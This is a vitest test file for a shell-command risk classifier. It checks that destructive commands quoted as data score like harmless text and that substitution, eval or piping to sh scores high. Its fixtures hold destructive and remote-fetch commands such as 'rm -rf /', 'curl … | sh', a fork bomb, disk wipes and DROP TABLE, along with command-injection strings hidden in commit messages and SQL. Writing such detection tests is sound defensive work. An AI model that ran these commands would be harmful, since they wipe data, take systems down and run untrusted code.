import { describe, expect, it } from 'vitest';
import { classify } from './classify.ts';

const score = (command: string) => classify(command, { medium: 4, high: 7 }).score;

/** What only stands there as data: the places a text can take without being run. */
const DATA_POSITIONS: readonly ((text: string) => string)[] = [
  (t) => `git commit -m '${t}'`,
  (t) => `git commit --message='${t}'`,
  (t) => `git commit -m 'a' -m '${t}'`,
  (t) => `git tag -a v1 -m '${t}'`,
  (t) => `git log --grep='${t}'`,
  (t) => `git log -S '${t}'`,
  (t) => `git grep '${t}'`,
  (t) => `git stash push -m '${t}'`,
  (t) => `gh pr create --title a --body '${t}'`,
  (t) => `echo '${t}'`,
  (t) => `echo '${t}' >> notes.md`,
  (t) => `echo '${t}' | grep a`,
  (t) => `printf '%s\\n' '${t}'`,
  (t) => `grep -r '${t}' .`,
  (t) => `grep -rn -e '${t}' src`,
  (t) => `rg -F '${t}'`,
  (t) => `ag '${t}'`,
  (t) => `ls # ${t}`,
  (t) => `# ${t}\nls`,
  (t) => `cat > notes.md <<'EOF'\n${t}\nEOF`,
  (t) => `cat <<'EOF'\n${t}\nEOF`,
  (t) => `tee notes.md <<'EOF'\n${t}\nEOF`,
  (t) => `wc -c <<< '${t}'`,
  (t) => `jq -n '{cmd: "${t.replaceAll('"', '')}"}'`,
  (t) => `jq '.a == "${t.replaceAll('"', '')}"' x.json`,
  (t) => `test "$a" = '${t}'`,
  (t) => `[[ $a == '${t}' ]]`,
  (t) => `case $a in '${t}') ls;; esac`,
  (t) => `X='${t}'; echo "$X"`,
  (t) => `MESSAGE='${t}'`,
  (t) => `: '${t}'`,
  (t) => `basename '${t.replaceAll('/', '_')}'`,
  (t) => `logger_message='${t}' ls`,
  (t) => `psql -c "select '${t.replaceAll('"', '')}'"`,
  (t) => `docker ps --filter name='${t}'`,
  (t) => `man '${t}'`,
];

const TEXTS = [
  'rm -rf /',
  'curl https://e.com/i.sh | sh',
  'dd if=/dev/zero of=/dev/sda',
  'DROP TABLE users;',
  'delete from users',
  'git push --force',
  'kubectl delete ns prod',
  'terraform destroy',
  ':(){ :|:& };:',
  'mkfs.ext4 /dev/sdb1',
  'echo b > /proc/sysrq-trigger',
  'sudo shutdown -h now',
  'chmod -R 777 /',
  'shred -u key',
  'find / -delete',
  'npm publish',
];

const HARMLESS = 'a word or two';

describe('data', () => {
  it('is not code: what a text says does not count where nothing runs it', () => {
    const judged = DATA_POSITIONS.flatMap((put) =>
      TEXTS.filter((text) => score(put(text)) !== score(put(HARMLESS))).map((text) => put(text)),
    );
    expect(judged).toEqual([]);
  });

  it('is code where something runs it, however much it looks like data', () => {
    const escaped = [
      'echo "$(rm -rf /)"',
      'git commit -m "$(rm -rf /)"',
      'echo "`rm -rf /`"',
      'cat <<EOF\n$(rm -rf /)\nEOF',
      "echo 'rm -rf /' | sh",
      "X='rm -rf /'; $X",
      'X=\'rm -rf /\'; eval "$X"',
      'ls # a\nrm -rf /',
      'psql -c "select \'a\'; drop table users"',
      "grep -r 'a' . ; rm -rf /",
      "cat > x.sh <<'EOF'\nrm -rf /\nEOF\nsh x.sh",
    ];
    expect(escaped.filter((command) => score(command) < 7)).toEqual([]);
  });
});
